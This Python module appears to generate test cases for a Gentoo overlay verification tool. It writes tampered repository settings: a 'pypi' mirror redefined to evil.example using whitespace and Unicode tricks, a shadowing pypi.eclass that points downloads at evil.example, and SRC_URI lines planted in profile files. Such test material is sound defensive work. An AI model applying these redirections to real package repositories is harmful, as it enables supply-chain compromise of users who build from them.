"""The repository's own settings: mirrors, categories, layout.conf, its name."""

from ..overlay import EVIL, GOOD

_SPACES = (" ", "\t", "\u00a0", "\x0b", "\x0c", "\x1c", "\x1f", "\x85", "\u2003", "\u2028", "\u3000", "  ", "\u200b", "\u180e")
_MIRROR = 'SRC_URI="mirror://pypi/h/heron-parser/heron_parser-1.5.0.tar.gz"'


def mirrors(change):
    """The mirror that is PyPI, redefined."""
    space = change.one(_SPACES)
    line = change.one([
        "pypi{}https://evil.example/pypi\n", "x y\npypi{}https://evil.example/pypi\n", "{}pypi https://evil.example/pypi\n",
        "pypi{}# no\npypi https://evil.example\n", "pypi -*{}https://evil.example\n", "\ufeffpypi{}https://evil.example\n",
        "x https://y/{}pypi https://evil.example\n", "# no{}\rpypi https://evil.example\n", "pypi{}https://evil.example", "Pypi{}https://evil.example\n",
        "pypi https://files.pythonhosted.org/packages/source{}https://evil.example\n", "# no{}pypi https://evil.example\n",
    ])  # fmt: skip
    change.lines(_MIRROR)
    if change.maybe(0.3):
        change.already()
        change.notes.append("later")
    change.write(change.one(["profiles/thirdpartymirrors"] * 6 + ["profiles/thirdpartymirrors/x", "profiles/x/thirdpartymirrors", "thirdpartymirrors"]), line.format(space))


def another_mirror(change):
    """A mirror of another name that leads to PyPI, or of a name that is nearly PyPI's."""
    name = change.one(["heron", "PYPI", "pypi.", "pypi\u00a0", "gentoo", "github"])
    change.append("profiles/thirdpartymirrors", f"{name} https://files.pythonhosted.org/packages/source\n")
    uri = f"mirror://{name}/h/heron-parser/heron_parser-1.5.0.tar.gz"
    if change.maybe():
        change.lines(f'SRC_URI="{uri}"')
    else:
        change.other("app-misc/wader/wader-1.5.0.ebuild", uri)


def eclasses_of_others(change):
    """masters, and other keys of layout.conf."""
    line = change.one(["masters =\n", "masters = x\n", "masters = gentoo x\n", "masters=gentoo\r\n", "eclass-overrides = gentoo\n", "aliases = gentoo\n", "repo-name = gentoo\n",
                       "repo-name = x\n", "eapis-banned = 8\n", "profile-formats = portage-2\n", "# masters =\n", "Masters =\n", "masters = gentoo\nmasters =\n"])  # fmt: skip
    change.bump()
    text = change.text("metadata/layout.conf")
    change.write("metadata/layout.conf", line.encode() + text if change.maybe(0.3) else text + line.encode())


def own_pypi(change):
    """An eclass of the overlay under the name of ::gentoo's."""
    text = change.ingredients.eclasses["pypi"].decode()
    change.write("eclass/pypi.eclass", text.replace("files.pythonhosted.org", "evil.example") if change.maybe() else text + f'\nSRC_URI="{EVIL}"\n')
    change.bump()


def categories(change):
    """What is a category."""
    space = change.one(_SPACES + ("\r\n", "#", " # "))
    line = change.one(["dev-new{}\n", "x{}dev-new\n", "{}dev-new\n", "-dev-python{}\n", "dev-new"]).format(space)
    if change.maybe(0.8):
        change.append("profiles/categories", line)
    else:
        change.write("profiles/categories", line)
    change.other("dev-new/wader/wader-1.5.0.ebuild", GOOD)


def name(change):
    change.bump()
    change.write("profiles/repo_name", change.one(["gentoo\n", "", "x y\n", "ebuild-attest-sample # x\n", "\n"]))


def others(change):
    """Files of profiles that have nothing to do with sources."""
    path = change.one(["package.mask", "use.desc", "eapi", "updates/1Q-2026", "info_vars", "package.bashrc", "profile.bashrc", "use.local.desc"])
    change.write(f"profiles/{path}", change.one(["", "x\n", "move dev-python/heron-parser dev-python/heron\n", f"SRC_URI={EVIL}\n"]))
    change.bump()
